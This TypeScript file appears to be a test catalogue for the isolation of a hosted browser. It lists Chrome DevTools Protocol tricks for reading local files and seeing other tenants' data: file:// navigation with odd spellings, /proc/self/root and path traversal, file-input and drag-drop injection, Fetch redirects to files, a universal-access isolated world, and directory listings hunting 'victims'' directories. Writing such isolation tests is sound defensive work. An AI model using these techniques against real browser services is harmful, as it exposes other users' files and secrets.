import type { ClientAttempt, Work } from "./attempt.js";
import { command } from "./command.js";

/** One after the other in pages of their own, and then whatever is shown. */
const visiting = (
  name: string,
  urlOf: (path: string) => string,
  other: Partial<ClientAttempt> = {},
): ClientAttempt =>
  command(
    name,
    async (work) => {
      const page = await work.open();
      const got: unknown[] = [];
      for (const { path } of work.few) {
        got.push(await page.goto(urlOf(path)));
        got.push(await page.evaluate("return document.documentElement.outerHTML"));
      }
      return got;
    },
    other,
  );

const frameOf = async (page: Awaited<ReturnType<Work["open"]>>): Promise<string> => {
  const { result } = await page.command("Page.getFrameTree");
  return (result?.["frameTree"] as { frame: { id: string } } | undefined)?.frame.id ?? "";
};

/** Reads a stream to its end, at most a few pieces of it. */
async function streamed(page: Awaited<ReturnType<Work["open"]>>, handle: unknown): Promise<unknown[]> {
  const got: unknown[] = [];
  for (let turn = 0; turn < 4; turn += 1) {
    const { result } = await page.command("IO.read", { handle });
    got.push(result);
    if (result === undefined || result["eof"] === true) break;
  }
  return got;
}

/** Commands that may give what is in a file. */
export const reading: readonly ClientAttempt[] = [
  visiting("Page.navigate to files", (path) => `file://${path}`, { isQuick: true }),
  visiting("Page.navigate, oddly spelled", (path) => ` FI\nle://${path}`),
  visiting("Page.navigate, with a host", (path) => `file://localhost${path}`),
  visiting("Page.navigate by way of /proc/self/root", (path) => `file:///proc/self/root${path}`),
  visiting(
    "Page.navigate by way of dots and escapes",
    (path) => `file:///usr/share/%2e%2e/../..${path.replaceAll("/", "/./")}`,
  ),
  command(
    "Page.navigate to sources of files",
    async (work) => {
      for (const { path } of work.few) await work.open(`view-source:file://${path}`);
      return await work.shown();
    },
    { succeedsPlain: { because: "the document of a source is not told" } },
  ),
  command(
    "Target.createTarget of files",
    async (work) => {
      for (const { path } of work.few) await work.cdp.send("Target.createTarget", { url: `file://${path}` });
      return await work.untilFound(() => work.shown());
    },
    { isQuick: true },
  ),
  command(
    "listings of directories",
    async (work) => {
      const page = await work.open();
      const got: unknown[] = [];
      for (const path of [
        "/proc/",
        "/tmp/",
        "/var/tmp/",
        "/dev/shm/",
        "/run/",
        `${work.machine.directory}/`,
        "/home/",
        "/root/",
      ]) {
        await page.goto(`file://${path}`);
        const text = String(await page.evaluate("return document.documentElement.outerHTML"));
        got.push(text);
        // The victims' directories and the bystander's socket are named for the proof.
        const foreign = /remuda-prove-[0-9a-f]{8}|bystander\.sock/.exec(text)?.[0];
        if (foreign !== undefined) work.saw(`${foreign} in ${path}`);
        if (path === "/proc/" && new RegExp(`>${work.machine.victims.pid}/?<`).test(text))
          work.saw("the process of another in /proc");
      }
      return got;
    },
    { isQuick: true },
  ),
  command(
    "DOM.setFileInputFiles",
    async (work) => await work.readFiles(work.targets.map(({ path }) => path)),
    { isQuick: true },
  ),
  command(
    "DOM.setFileInputFiles by way of /proc/self/root",
    async (work) => await work.readFiles(work.targets.map(({ path }) => `/proc/self/root${path}`)),
  ),
  command(
    "DOM.setFileInputFiles by dots from its own directory",
    async (work) =>
      await work.readFiles(
        work.targets.map(({ path }) => `${work.browser.root}/Downloads/../../../../../../..${path}`),
      ),
    { succeedsPlain: { because: "Chromium takes no path with dots" } },
  ),
  command("Input.dispatchDragEvent of files", async (work) => {
    const body = `<!doctype html><body style="height:100vh" ondragover="event.preventDefault()" ondrop="event.preventDefault(); [...event.dataTransfer.files].map((file) => file.text().then((text) => document.body.append(text)))">`;
    const page = await work.open(work.serve("/drop", { body }));
    const data = { items: [], files: work.targets.map(({ path }) => path), dragOperationsMask: 1 };
    for (const type of ["dragEnter", "dragOver", "drop"])
      await page.command("Input.dispatchDragEvent", { type, x: 50, y: 50, data });
    return await work.untilFound(() => page.evaluate("return document.body.innerText"));
  }),
  command(
    "Network.loadNetworkResource",
    async (work) => {
      const page = await work.open();
      const got: unknown[] = [];
      for (const { path } of work.few) {
        const { result, error } = await page.command("Network.loadNetworkResource", {
          frameId: await frameOf(page),
          url: `file://${path}`,
          options: { disableCache: true, includeCredentials: true },
        });
        got.push(
          error,
          await streamed(page, (result?.["resource"] as { stream?: string } | undefined)?.stream),
        );
      }
      return got;
    },
    { succeedsPlain: { because: "Chromium loads no file: URL for a page of the web" } },
  ),
  command(
    "Fetch.fulfillRequest with a redirect to files",
    async (work) => {
      const page = await work.open();
      await page.command("Fetch.enable");
      for (const [at, { path }] of work.few.entries()) {
        const url = `${work.site.origin}/${work.nonce}/fulfilled-${at}`;
        const going = page.command("Page.navigate", { url });
        const paused = await work.cdp.message(
          ({ method, params }) => method === "Fetch.requestPaused" && JSON.stringify(params).includes(url),
        );
        await page.command("Fetch.fulfillRequest", {
          requestId: paused.params?.["requestId"],
          responseCode: 302,
          responseHeaders: [{ name: "location", value: `file://${path}` }],
        });
        await Promise.race([going, new Promise((resolve) => setTimeout(resolve, 500))]);
      }
      return await work.shown();
    },
    { succeedsPlain: { because: "Chromium follows no redirect to a file" } },
  ),
  command(
    "Fetch.continueRequest with a file",
    async (work) => {
      const page = await work.open();
      await page.command("Fetch.enable");
      const [target] = work.targets;
      const going = page.command("Page.navigate", { url: `${work.site.origin}/${work.nonce}/continued` });
      const paused = await work.cdp.message(({ method }) => method === "Fetch.requestPaused");
      await page.command("Fetch.continueRequest", {
        requestId: paused.params?.["requestId"],
        url: `file://${target?.path}`,
      });
      await Promise.race([going, new Promise((resolve) => setTimeout(resolve, 500))]);
      return await work.shown();
    },
    { succeedsPlain: { because: "Chromium continues no request of the web with a file" } },
  ),
  command(
    "a world with access to everything",
    async (work) => {
      const page = await work.open();
      const made = await page.command("Page.createIsolatedWorld", {
        frameId: await frameOf(page),
        grantUniveralAccess: true,
      });
      const expression = `Promise.all(${JSON.stringify(work.targets.map(({ path }) => `file://${path}`))}.map((url) => fetch(url).then((reply) => reply.text(), () => new Promise((resolve) => { const asked = new XMLHttpRequest(); asked.onloadend = () => resolve(asked.responseText); asked.open("GET", url); asked.send(); }))))`;
      const { result } = await page.command("Runtime.evaluate", {
        expression,
        contextId: made.result?.["executionContextId"],
        awaitPromise: true,
        returnByValue: true,
      });
      return result;
    },
    { succeedsPlain: { because: "a renderer of a web page may not ask for files, whatever its world" } },
  ),
  command(
    "Page.setDocumentContent over a file's frames",
    async (work) => {
      const page = await work.open();
      await page.goto("about:blank");
      const html = work.targets
        .map(({ path }) => `<iframe src="file://${path}"></iframe><img src="file://${path}">`)
        .join("");
      await page.command("Page.setDocumentContent", { frameId: await frameOf(page), html });
      return await work.shown();
    },
    { succeedsPlain: { because: "Chromium opens no file in a frame of such a page" } },
  ),
  command(
    "Page.getResourceContent of files",
    async (work) => {
      const page = await work.open();
      const frameId = await frameOf(page);
      return await Promise.all(
        work.targets.map(({ path }) =>
          page.command("Page.getResourceContent", { frameId, url: `file://${path}` }),
        ),
      );
    },
    { succeedsPlain: { because: "only what a page has loaded is told" } },
  ),
  command("files that a page of the browser's own directory opens", async (work) => {
    const page = await work.open();
    await page.goto(`file://${work.browser.root}/`);
    const { path = "" } = work.targets.find(({ what }) => what === "the profile of another browser") ?? {};
    await page.evaluate(`location.href = ${JSON.stringify(`file://${path}`)}`);
    return await work.untilFound(() => page.evaluate("return document.documentElement.outerHTML"));
  }),
];
